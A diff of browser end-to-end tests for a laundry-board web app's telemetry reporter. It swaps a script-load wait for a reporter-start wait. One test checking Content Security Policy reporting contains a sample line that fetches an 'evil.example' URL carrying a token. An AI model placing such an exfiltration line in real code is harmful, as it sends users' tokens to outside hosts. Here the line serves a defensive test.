@@ -8,7 +8,12 @@ import {
 } from '@laundry-board/shared-types';
 import { boardPage } from '../../support/boardPage.ts';
 import { expectRefusal, LOAD_FAILURE } from '../../support/fixtures.ts';
-import { expect, type ReportedSite, test as base } from '../../support/reportedSite.ts';
+import {
+  expect,
+  type ReportedSite,
+  reporterStarted,
+  test as base,
+} from '../../support/reportedSite.ts';
 import { sampleSchool } from '../../support/schools.ts';
 
 const ADA = 'ada@campus.example';
@@ -34,22 +39,17 @@ async function expectReport(
   expect(new Set(site.statuses)).toEqual(new Set([204]));
 }
 
-/** Waits until what reports has come: in a healthy visit only after the first tile. */
-function reporterLoaded(page: Page) {
-  return page.waitForResponse((response) => /\/vitals\.\w+\.js$/.test(response.url()));
-}
-
 const test = base.extend<{
-  /** Visits a board that turns out not to work, until what reports has come. */
+  /** Visits a board that turns out not to work, until its reporter runs. */
   readonly visitBrokenBoard: () => Promise<void>;
 }>({
   visitBrokenBoard: ({ page, pageConsole, reported, visitAs }, use) =>
     use(async () => {
       pageConsole.expectErrors(/The board could not be loaded/);
-      const loaded = reporterLoaded(page);
+      const started = reporterStarted(page);
       await visitAs(ADA, reported.origin + BOARD);
       await expect(page.getByRole('alert')).toContainText('The board could not be loaded.');
-      await loaded;
+      await started;
     }),
 });
 
@@ -62,15 +62,15 @@ test('a healthy visit reports its measures and no error @engines', async ({
   reported,
   visitAs,
 }) => {
-  const loaded = reporterLoaded(page);
+  const started = reporterStarted(page);
   await visitAs(ADA, reported.origin + BOARD);
   await expect(boardPage(page).washers.first()).toBeVisible();
-  await loaded;
+  await started;
   const measures = () =>
     reported.reports.flatMap((report) =>
       report.type === 'measure' ? [`${report.name} ${report.remote ?? ''}`.trim()] : [],
     );
-  // A file that has come has not run yet. Each look hands over what there is by then, as leaving would.
+  // Each look hands over what there is by then, as leaving would.
   await expect
     .poll(async () => {
       await page.evaluate(() => dispatchEvent(new Event('pagehide')));
@@ -83,25 +83,25 @@ test('a healthy visit reports its measures and no error @engines', async ({
 });
 
 test('a visitor’s page reports when the login screen was there', async ({ page, reported }) => {
-  const loaded = reporterLoaded(page);
+  const started = reporterStarted(page);
   await page.goto(reported.origin);
   await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
-  await loaded;
+  await started;
   await expectReport(page, reported, { type: 'measure', name: 'login-screen' });
 });
 
 test('a tab that is closed hands over what it has', async ({ page, reported }) => {
-  const loaded = reporterLoaded(page);
+  const started = reporterStarted(page);
   await page.goto(reported.origin);
   await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
-  await loaded;
+  await started;
   await page.close({ runBeforeUnload: true });
   await expect
     .poll(() => reported.reports)
     .toContainEqual(expect.objectContaining({ type: 'measure', name: 'login-screen' }));
 });
 
-test('a tab that is closed before what reports has come sends nothing', async ({
+test('a tab that is closed before its reporter has come sends nothing', async ({
   page,
   reported,
 }) => {
@@ -204,10 +204,10 @@ test('a board that throws while it renders is reported with its version @engines
 
 test('a violation of the policy is reported @engines', async ({ page, pageConsole, reported }) => {
   expectRefusal(pageConsole, /connect-src https:\/\/evil/);
-  const loaded = reporterLoaded(page);
+  const started = reporterStarted(page);
   await page.goto(reported.origin);
   await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
-  await loaded;
+  await started;
   const code = "fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})";
   // Firefox logs a refusal before the page hears of it.
   await page.evaluate(`new Promise((resolve) => {
@@ -228,7 +228,7 @@ test('without an endpoint nothing is loaded or sent', async ({ page, site, visit
   await visitAs(ADA, site.origin);
   await expect(boardPage(page).washers.first()).toBeVisible();
   await page.goto('about:blank');
-  expect(requests.filter((url) => /collect|reports|vitals/.test(url))).toEqual([]);
+  expect(requests.filter((url) => /reports/.test(url))).toEqual([]);
 });
 
 test('an endpoint that is gone changes nothing', async ({
@@ -239,10 +239,10 @@ test('an endpoint that is gone changes nothing', async ({
 }) => {
   pageConsole.expectErrors(LOAD_FAILURE);
   await reported.configure({ reportEndpoint: 'http://localhost:1/' });
-  const loaded = reporterLoaded(page);
+  const started = reporterStarted(page);
   await visitAs(ADA, reported.origin);
   await expect(boardPage(page).washers.first()).toBeVisible();
-  await loaded;
+  await started;
   const sent = page.waitForEvent('requestfailed', (request) => request.url().includes(':1/'));
   await page.evaluate(() => dispatchEvent(new Event('pagehide')));
   await sent;
